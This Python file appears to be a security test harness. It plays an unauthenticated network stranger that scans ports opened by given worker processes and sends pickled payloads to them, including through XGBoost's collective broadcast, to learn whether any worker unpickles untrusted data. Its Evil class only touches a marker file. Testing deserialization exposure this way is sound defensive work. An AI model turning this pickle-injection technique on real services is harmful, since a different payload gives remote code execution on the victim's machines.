"""Someone on the network, without any key, who tries all ports that workers open for a fit.

``python stranger.py HOW MARKER FOUND KNOWN,... PID,...`` runs until its input ends. It scans the
ports on which the processes listen, and tries each that is not known yet. The file MARKER is there
if anybody has unpickled what it sends; what came of each port is noted in the file FOUND.
"""

import multiprocessing
import os
import pickle
import socket
import sys
import threading
import time
from pathlib import Path

import psutil

GREETING = b"GET / HTTP/1.1\r\n\r\n"


class Evil:
    """Makes a file when it is unpickled."""

    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return Path.touch, (Path(self.path),)


def listening(pids):
    """Return the addresses on which processes listen."""
    found = set()
    for pid in pids:
        connections = psutil.Process(pid).net_connections("tcp")
        found |= {tuple(c.laddr) for c in connections if c.status == psutil.CONN_LISTEN}
    return found


def join_as_first(marker, found, port):
    """Be a machine of XGBoost's collective, as far as its first decision, which is a pickle."""
    import numpy as np
    from xgboost import collective

    where = {"dmlc_tracker_uri": "127.0.0.1", "dmlc_tracker_port": port}
    try:
        collective.init(**where, dmlc_task_id="", dmlc_timeout=20, dmlc_retry=1)
        collective.allreduce(np.zeros(1, np.int64), collective.Op.SUM)  # examples
        collective.allreduce(np.zeros(1), collective.Op.MAX)  # the unit
        collective.allreduce(np.zeros(16, np.int64), collective.Op.SUM)  # histograms of two columns
        collective.broadcast(Evil(marker), collective.get_rank())
        note(found, f"{port} joined")
    except Exception as error:  # noqa: BLE001 - whatever: the stranger stays outside
        note(found, f"{port} refused {type(error).__name__}")


def send(port, message, *, waits):
    """Send bytes, then wait, or leave at once."""
    try:
        with socket.create_connection(("127.0.0.1", port), 5.0) as connection:
            connection.sendall(message)
            if waits:
                connection.settimeout(20.0)
                while connection.recv(1000):
                    pass
    except OSError:
        pass


def note(found, text):
    with Path(found).open("a") as file:
        file.write(text + "\n")


def join(marker, found, port):
    """Let a process of its own try to be a machine of the collective that listens on a port."""
    context = multiprocessing.get_context("forkserver")
    context.Process(target=join_as_first, args=(marker, found, port)).start()


def send_all(marker, found, port):
    """Send everything that might be taken for something, many times at once."""
    payload = pickle.dumps(Evil(marker))
    length = len(payload).to_bytes(8, "little")
    for message in (b"", GREETING, payload, length + payload, bytes(68), os.urandom(100_000)):
        for waits in (False, True):
            options = {"target": send, "args": (port, message), "kwargs": {"waits": waits}}
            threading.Thread(**options, daemon=True).start()


def main(how, marker, found, known, pids):
    attack = {"joins": join, "sends": send_all}[how]
    if attack is join:  # an import takes longer than the machines need to meet
        context = multiprocessing.get_context("forkserver")
        context.set_forkserver_preload(["numpy", "xgboost.collective"])
        context.Process(target=len, args=("",)).start()
        time.sleep(5.0)
    ended = threading.Event()
    threading.Thread(target=lambda: (sys.stdin.read(), ended.set()), daemon=True).start()
    known = {int(port) for port in known.split(",")}
    pids = [int(pid) for pid in pids.split(",")]
    note(found, "ready")
    while not ended.wait(0.01):
        for _, port in listening(pids):
            if port not in known:
                known.add(port)
                note(found, f"{port} found")
                threading.Thread(target=attack, args=(marker, found, port), daemon=True).start()


if __name__ == "__main__":
    main(*sys.argv[1:])
